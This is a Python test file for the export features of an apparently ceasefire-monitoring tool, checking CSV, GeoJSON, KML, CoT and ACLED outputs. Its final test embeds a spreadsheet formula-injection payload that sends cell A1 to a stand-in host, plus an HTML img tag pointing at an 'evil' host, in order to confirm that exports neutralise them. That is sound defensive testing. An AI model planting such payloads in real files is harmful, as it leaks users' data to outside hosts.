"""Exports open in GDAL with the right feature count; an observations CSV re-imports to the
same rows; the zones as CoT parse back into the same shapes; ACLED holds confirmed violations
only, in the codebook's columns."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import shapely
from lxml import etree
from sqlalchemy import Engine, select

from truceline.demo import MISSION_FILE
from truceline.domain.cases import Position
from truceline.mission.geometry import buffer_metres
from truceline.services.demo import build_demo
from truceline.services.ingest import ingest_observations
from truceline.services.ledger import KeyRing
from truceline.services.missions import init_database
from truceline.services.reports import renderer_for
from truceline.services.reports.acled_renderer import COLUMNS as ACLED
from truceline.services.reports.records import from_document, from_store
from truceline.services.signing import report_document
from truceline.services.verification import file_assessment, open_case
from truceline.store import tables as t
from truceline.store.db import make_engine, snapshot
from truceline.store.missions import load_mission

DAY = date(2020, 11, 21)


@pytest.fixture(scope="module")
def centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """The demo centre with one finding of DAY confirmed by both contingents."""
    where = tmp_path_factory.mktemp("exports")
    engine = make_engine(f"sqlite:///{where / 'd.db'}")
    build_demo(engine, days=3, seed=9, data_dir=where / "data", force=False)
    keyring = KeyRing(where / "data" / "keys")
    finding = next(
        f for f in report_document(engine, DAY).content["findings"] if f["rule"] == "no_fire"
    )
    case = open_case(engine, finding=finding["id"], keyring=keyring, acting="blue")
    for contingent in ("blue", "green"):
        file_assessment(
            engine, case["id"], contingent=contingent, actor=contingent, keyring=keyring,
            position=Position("confirmed", "west", "crater and fragments seen"),
        )  # fmt: skip
    yield engine
    engine.dispose()


def records(engine: Engine, kind: str) -> Any:
    with snapshot(engine) as conn:
        return from_store(conn, load_mission(conn), kind)


def ogr_count(path: Path) -> int:
    out = subprocess.run(["ogrinfo", "-ro", "-al", "-so", str(path)], capture_output=True,
                         text=True, check=True).stdout  # fmt: skip
    return sum(int(n) for n in re.findall(r"Feature Count: (\d+)", out))


@pytest.mark.parametrize("kind", ["observations", "incidents", "violations", "zones"])
def test_every_csv_geojson_and_kml_export_opens_in_gdal_with_its_feature_count(
    centre: Engine, kind: str, tmp_path: Path
) -> None:
    held = records(centre, kind)
    assert held.rows, kind
    for fmt in ("csv", "geojson", "kml"):
        path = tmp_path / f"x.{fmt}"
        path.write_bytes(renderer_for(fmt).records(held))
        assert ogr_count(path) == len(held.rows), (kind, fmt)
    collection = json.loads((tmp_path / "x.geojson").read_text())
    assert collection["type"] == "FeatureCollection"  # RFC 7946: no crs member, lon/lat
    assert "crs" not in collection
    kml = etree.fromstring((tmp_path / "x.kml").read_bytes())
    assert kml.tag == "{http://www.opengis.net/kml/2.2}kml"
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    assert kml.findall(".//k:Style", ns) and all(
        p.findtext("k:name", namespaces=ns) for p in kml.findall(".//k:Placemark", ns)
    )


def test_an_observations_csv_export_reimports_to_the_same_rows(
    centre: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "observations.csv"
    path.write_bytes(renderer_for("csv").records(records(centre, "observations")))
    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.db'}")
    init_database(fresh, MISSION_FILE)
    ingest_observations(fresh, path)
    o = t.observations
    columns = [c for c in o.c if c.name not in ("id", "batch_id")]

    def rows(engine: Engine) -> set[tuple[Any, ...]]:
        with engine.connect() as conn:
            return set(conn.execute(select(*columns)).all())

    assert rows(fresh) == rows(centre)
    again = ingest_observations(fresh, path)  # and once more: nothing new
    assert again.accepted == 0
    fresh.dispose()


def test_the_zones_as_cot_parse_back_into_the_same_shapes(centre: Engine) -> None:
    with centre.connect() as conn:
        mission = load_mission(conn)
    data = renderer_for("cot").records(records(centre, "zones"))
    events = [etree.fromstring(b"<?xml" + part) for part in data.split(b"<?xml")[1:]]
    shapes: dict[str, Any] = {}
    for event in events:
        zone = event.get("uid", "").removeprefix("truceline-zone-").split(".")[0]
        if event.get("type") == "u-d-c-c":
            point = event.find("point")
            assert point is not None
            radius = float(event.find(".//ellipse").get("major"))  # type: ignore[union-attr]
            shape = buffer_metres(shapely.Point(float(point.get("lon")), float(point.get("lat"))),
                                  radius)  # fmt: skip
        else:
            ring = [tuple(map(float, link.get("point").split(",")))[::-1]
                    for link in event.iter("link") if link.get("point")]  # fmt: skip
            shape = shapely.Polygon(ring)
        shapes[zone] = shape if zone not in shapes else shapes[zone].union(shape)
    assert set(shapes) == set(mission.zones)
    for zid, zone in mission.zones.items():
        overlap = shapes[zid].intersection(zone.geometry).area
        assert overlap / shapes[zid].union(zone.geometry).area > 0.99, zid


def test_acled_holds_confirmed_violations_only_with_the_codebook_columns(
    centre: Engine,
) -> None:
    held = records(centre, "violations")
    assert [r["verdict"] for r in held.rows] == ["confirmed"]
    rows = list(csv.reader(io.StringIO(renderer_for("acled").records(held).decode())))
    assert tuple(rows[0]) == ACLED and len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["event_type"] in ("Explosions/Remote violence", "Battles")
    assert row["actor1"] == "West Forces" and row["event_id_cnty"].startswith("DEMO")
    assert row["event_date"] == "2020-11-20" or row["event_date"] == "2020-11-21"
    with pytest.raises(Exception, match="acled does not export incidents"):
        renderer_for("acled").records(records(centre, "incidents"))


def test_a_published_reports_records_come_from_its_signed_content(centre: Engine) -> None:
    document = report_document(centre, DAY)
    incidents = from_document(document, "incidents")
    assert len(incidents.rows) == len(document.content["incidents"])
    violations = from_document(document, "violations")
    assert [r["verdict"] for r in violations.rows] == ["confirmed"]
    assert json.loads(renderer_for("geojson").records(incidents))["features"]


def test_text_from_a_feed_or_a_mission_file_is_never_a_formula_or_markup_in_an_export() -> None:
    from truceline.services.reports.records import Records

    evil = '=HYPERLINK("http://x/?"&A1,"open")'
    markup = "<img src=http://evil/p.png>\x0b"
    rows = [{"id": 1, "kind": "explosion", "subtype": None, "start": "2020-11-21T10:00:00Z",
             "end": "2020-11-21T10:00:00Z", "lat": 40.0, "lon": 46.9, "zone": evil,
             "count": 1, "actor": markup, "observations": 1}]  # fmt: skip
    held = Records("incidents", rows, mission_id="demo", mission_name="Demo")
    table = list(csv.reader(io.StringIO(renderer_for("csv").records(held).decode())))
    assert table[1][table[0].index("zone")] == "'" + evil
    assert not any(c.startswith("=") for c in table[1])
    kml = etree.fromstring(renderer_for("kml").records(held))
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    said = kml.findtext(".//k:description", namespaces=ns)
    assert said is not None and "<img" not in said and "&lt;img" in said and "\x0b" not in said
